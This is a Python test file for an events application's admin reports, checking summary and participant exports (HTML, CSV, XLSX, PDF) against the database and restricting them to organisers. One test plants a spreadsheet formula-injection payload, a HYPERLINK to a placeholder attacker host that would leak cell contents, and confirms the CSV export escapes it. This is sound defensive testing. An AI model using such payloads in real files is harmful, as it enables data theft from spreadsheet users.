"""Event summary and List of Participants: HTML, CSV, XLSX and PDF agree with the database."""

from __future__ import annotations

import csv
import io
import subprocess
import unicodedata

import pytest
from openpyxl import load_workbook

from eventsapp.reference import ECONOMIES

from . import dataset
from .conftest import pdf_text
from .html import parse, table_counts

BASE = f"/admin/events/{dataset.SLUG}"
ECONOMY_COUNTS = {name: dataset.BY_ECONOMY.get(code, 0) for code, name in ECONOMIES.items()}
ATTENDANCE = {"10 February 2020": 5, "11 February 2020": 3}


def nfkc(text: str) -> str:
    return unicodedata.normalize("NFKC", text)


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_summary_page_shows_the_figures_of_the_database(client, data, organiser):
    page = parse(client.get(f"{BASE}/summary").data)
    assert page.figures == {"capacity": "8", "confirmed": "8", "fill": "100%",
                            "waitlisted": "2", "cancelled": "2", "economies": "4 of 21"}
    assert table_counts(page, "by-economy") == ECONOMY_COUNTS
    assert list(table_counts(page, "by-economy")) == list(ECONOMIES.values())
    assert table_counts(page, "by-organisation") == dataset.ORGANISATIONS
    assert table_counts(page, "by-sector") == dataset.BY_SECTOR
    assert table_counts(page, "by-category") == dataset.BY_CATEGORY
    assert table_counts(page, "attendance") == {**ATTENDANCE, "On at least one day": 6}


def test_summary_page_draws_accessible_svg_charts(client, data, organiser):
    html = client.get(f"{BASE}/summary").data.decode()
    assert html.count("<svg ") == 2
    assert 'role="img" aria-labelledby="chart-economy-title chart-economy-desc"' in html
    assert '<title id="chart-economy-title">Participants by economy</title>' in html
    assert "Capacity 8" in html
    assert "style=" not in html  # CSP: style-src 'self' allows no inline styles


def test_summary_marks_cancelled_agenda_items(client, data, organiser):
    html = client.get(f"{BASE}/summary").data.decode()
    assert f"<strong>Cancelled:</strong> <s>{dataset.CANCELLED_ITEM}</s>" in html


def test_summary_csv_has_the_same_counts_as_the_page(client, data, organiser):
    response = client.get(f"{BASE}/summary.csv")
    rows = csv_rows(response.data)
    assert response.headers["Content-Disposition"] == 'attachment; filename="ctwg-15-summary.csv"'
    assert rows[0] == ["section", "key", "label", "count"]
    by = {}
    for section, key, label, count in rows[1:]:
        by.setdefault(section, {})[label] = int(count)
    assert by["registrations"] == {"Capacity": 8, "Confirmed": 8, "Waiting list": 2,
                                   "Cancelled": 2, "Economies represented": 4}
    assert by["economy"] == ECONOMY_COUNTS
    assert by["organisation"] == dataset.ORGANISATIONS
    assert by["sector"] == dataset.BY_SECTOR
    assert by["category"] == dataset.BY_CATEGORY
    assert by["attendance"] == {"2020-02-10": 5, "2020-02-11": 3,
                                "Checked in on at least one day": 6}


def test_summary_xlsx_counts_equal_the_csv_and_lists_participants(client, data, organiser):
    csv_data = csv_rows(client.get(f"{BASE}/summary.csv").data)
    response = client.get(f"{BASE}/summary.xlsx")
    wb = load_workbook(io.BytesIO(response.data), read_only=True)
    assert wb.sheetnames == ["Counts", "Participants"]
    counts = [["" if v is None else str(v) for v in row]
              for row in wb["Counts"].iter_rows(values_only=True)]
    assert counts == csv_data
    people = list(wb["Participants"].iter_rows(values_only=True))
    assert [r[1] for r in people[1:]] == [n for _, names in dataset.LOP_ORDER for n in names]
    assert people[1][9] == dataset.email_of("jane")


def test_summary_pdf_has_the_same_figures(client, data, organiser):
    response = client.get(f"{BASE}/summary.pdf")
    assert response.mimetype == "application/pdf"
    lines = nfkc(pdf_text(response.data)).splitlines()
    assert "Capacity Confirmed Fill Waiting list Cancelled" in lines
    assert "8 8 100% 2 2" in lines
    assert "Economies represented: 4 of 21" in lines
    for name, n in {**ECONOMY_COUNTS, **dataset.ORGANISATIONS, **dataset.BY_SECTOR,
                    **dataset.BY_CATEGORY, **ATTENDANCE}.items():
        assert f"{name} {n}" in lines, name
    assert "People checked in on at least one day 6" in lines
    assert "Tuesday 11 February 2020 Cancelled: Side meeting on data sharing Side" in lines
    assert lines[0] == "APEC Counter-Terrorism Working Group"
    assert lines[-1].endswith("Page 3 of 3")


def test_pdfs_embed_every_font_and_carry_a_title(client, data, organiser, tmp_path):
    for path, title in ((f"{BASE}/summary.pdf", "Summary: "),
                        (f"{BASE}/participants.pdf", "List of Participants: ")):
        pdf = tmp_path / "out.pdf"
        pdf.write_bytes(client.get(path).data)
        fonts = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True,
                               check=True).stdout.splitlines()[2:]
        assert fonts and all(" yes yes yes " in line for line in fonts), fonts
        info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True,
                              check=True).stdout
        assert f"Title:           {title}15th Counter-Terrorism Working Group Meeting" in info


def test_list_of_participants_page_is_in_protocol_order(client, data, organiser):
    page = parse(client.get(f"{BASE}/participants").data)
    names = iter(page.by_class["lop-name"])
    got = [(h, [next(names) for _ in people]) for h, people in dataset.LOP_ORDER]
    assert page.by_class["h2"] == [h for h, _ in dataset.LOP_ORDER]
    assert got == dataset.LOP_ORDER
    assert page.by_class["lop-native"] == ["李小龍", "สมชาย ใจดี"]


@pytest.mark.parametrize("path", ["participants.pdf", "summary.pdf"])
def test_a_report_pdf_that_takes_too_long_is_stopped_with_a_clean_503(app, client, data,
                                                                      organiser, path):
    app.config["PDF_TIME_LIMIT_SECONDS"] = 0.0001
    response = client.get(f"{BASE}/{path}")
    assert (response.status_code, response.headers["Retry-After"]) == (503, "2")
    assert "took longer than 0.0001 seconds to make" in response.get_data(as_text=True)


def test_list_of_participants_pdf_is_in_the_same_order_with_every_script(client, data, organiser):
    text = nfkc(pdf_text(client.get(f"{BASE}/participants.pdf").data))
    order = [x for heading, names in dataset.LOP_ORDER for x in (heading, *names)]
    positions = [text.index(nfkc(x)) for x in order]
    assert positions == sorted(positions)
    for native in ("李小龍", "สมชาย ใจดี", "Nguyễn Thị Minh Khai"):
        assert nfkc(native) in text
    assert "\x00" not in text and "■" not in text and "\ufffd" not in text
    assert "8 participants." in text


def test_participants_csv_follows_the_list_and_escapes_formulas(client, data, organiser, app):
    from eventsapp.extensions import db
    from eventsapp.models import Registration

    with app.app_context():
        reg = db.session.get(Registration, 1)
        reg.organisation = '=HYPERLINK("http://evil.example/?"&A1,"x")'
        reg.job_title = "\t=1+1"
        db.session.commit()
    rows = csv_rows(client.get(f"{BASE}/participants.csv").data)
    assert [r[1] for r in rows[1:]] == [n for _, names in dataset.LOP_ORDER for n in names]
    jane = rows[1]
    assert (jane[3], jane[4]) == ("'\t'=1+1", '\'=HYPERLINK("http://evil.example/?"&A1,"x")')


@pytest.mark.parametrize("path", ["summary", "summary.pdf", "summary.csv", "summary.xlsx",
                                  "participants", "participants.pdf", "participants.csv"])
def test_event_reports_are_for_organisers_only(client, app, data, path):
    from .conftest import sign_in

    assert client.get(f"{BASE}/{path}").status_code in (302, 303)
    with app.app_context():
        sign_in(client, dataset.make_user(role="checkin", email="door@example.org"))
    assert client.get(f"{BASE}/{path}").status_code == 403


def test_organiser_limited_to_another_event_is_refused(client, app, data):
    from sqlalchemy import select

    from eventsapp.extensions import db
    from eventsapp.models import Event

    from .conftest import sign_in

    with app.app_context():
        other = db.session.scalar(select(Event).where(Event.slug == "star-xi"))
        sign_in(client, dataset.make_user(events=[other]))
    assert client.get(f"{BASE}/summary").status_code == 403
    assert client.get("/admin/events/star-xi/summary").status_code == 200


def test_unknown_event_is_404(client, data, organiser):
    assert client.get("/admin/events/nope/summary.pdf").status_code == 404
